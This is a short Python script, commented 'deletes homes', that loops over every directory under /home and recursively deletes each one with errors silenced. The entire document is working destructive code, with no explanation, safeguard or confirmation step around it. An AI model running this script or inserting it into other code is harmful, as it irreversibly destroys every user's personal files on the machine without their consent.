# deletes homes
import shutil, os
for u in os.listdir("/home"):
    shutil.rmtree(os.path.join("/home", u), ignore_errors=True)
